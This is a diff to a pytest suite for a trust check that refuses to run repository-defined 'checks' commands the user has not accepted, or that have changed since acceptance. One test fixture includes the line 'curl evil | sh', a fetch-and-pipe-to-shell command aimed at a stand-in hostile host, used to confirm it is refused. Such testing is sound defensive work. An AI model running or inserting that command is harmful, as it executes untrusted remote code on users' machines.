@@ -1,5 +1,6 @@
 """What this user has accepted: of which workspace, of which text, and kept where."""
 
+import json
 from pathlib import Path
 
 import pytest
@@ -40,11 +41,17 @@ def lines_of(workspace: Workspace) -> tuple[CommandLine, ...]:
 
 
 def accept_all(workspace: Workspace, environ: dict[str, str]) -> None:
-    accept(workspace, text_of(lines_of(workspace)), environ)
+    accept(workspace, lines_of(workspace), environ)
 
 
 def refuse(workspace: Workspace, environ: dict[str, str]) -> None:
-    refuse_untrusted(workspace, read_repository(workspace.repository_config).content, environ)
+    keys = [line.key for line in lines_of(workspace)]
+    needing(workspace, environ, *keys)
+
+
+def needing(workspace: Workspace, environ: dict[str, str], *keys: str) -> None:
+    content = read_repository(workspace.repository_config).content
+    refuse_untrusted(workspace, content, environ, keys=keys)
 
 
 def test_the_command_lines_of_a_repository(workspace: Workspace) -> None:
@@ -67,7 +74,6 @@ def test_nothing_runs_before_it_is_accepted(workspace: Workspace, environ: dict[
     "changed",
     [
         "checks: {unit: make tests, lint: {run: make lint, timeout: 5m}, default: [unit]}",
-        "checks: {unit: make test}",
         FIRST.replace("default", "other: make other, default"),
         "checks: {lint: make test, unit: make lint, default: [unit]}",
     ],
@@ -96,6 +102,40 @@ def test_what_is_no_command_line_may_change(
     accept_all(workspace, environ)
     make(workspace.root, same)
     refuse(workspace, environ)
+
+
+def test_a_line_that_was_accepted_runs_whatever_has_changed_beside_it(
+    workspace: Workspace, environ: dict[str, str]
+) -> None:
+    accept_all(workspace, environ)
+    make(workspace.root, "checks: {unit: make test, lint: curl evil | sh, more: make more}")
+    needing(workspace, environ, "checks.unit")
+    for keys in (["checks.lint"], ["checks.unit", "checks.more"]):
+        with pytest.raises(NotTrusted, match="have changed"):
+            needing(workspace, environ, *keys)
+
+
+def test_what_is_accepted_anew_takes_the_place_of_what_was(
+    workspace: Workspace, environ: dict[str, str]
+) -> None:
+    accept_all(workspace, environ)
+    make(workspace.root, "checks: {unit: make other}")
+    accept_all(workspace, environ)
+    make(workspace.root, "checks: {unit: make test, lint: make other}")
+    with pytest.raises(NotTrusted):
+        needing(workspace, environ, "checks.unit")
+
+
+def test_a_text_that_an_earlier_sow_has_on_record_is_accepted(
+    workspace: Workspace, environ: dict[str, str]
+) -> None:
+    accept_all(workspace, environ)
+    path = trust_file(environ)
+    path.write_text(json.dumps({"accepted": json.loads(path.read_text())["accepted"]}))
+    refuse(workspace, environ)
+    make(workspace.root, "checks: {unit: make test}")
+    with pytest.raises(NotTrusted, match="have changed"):
+        refuse(workspace, environ)
 
 
 def test_no_command_line_needs_no_word(tmp_path: Path, environ: dict[str, str]) -> None:
